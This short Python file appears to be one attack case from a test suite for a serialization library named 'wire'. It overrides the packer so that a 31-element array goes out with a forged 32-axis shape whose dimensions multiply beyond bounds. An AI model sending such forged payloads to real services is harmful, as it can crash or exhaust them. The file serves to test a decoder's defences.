# /// attack
# name = "a shape of 32 axes"
# threat = "forged answers"
# tries = "Sends arrays whose shape multiplies beyond bounds."
# ///

import wire, numpy as np


class Packer(wire._Packer):
    def pack(self, value, depth):
        if isinstance(value, np.ndarray) and value.shape == (31,):
            return {"array": ["<f8", [2**26] * 31 + [0]]}
        return super().pack(value, depth)


wire._Packer = Packer


def NAME(*args, **kwargs):
    return np.zeros(31)
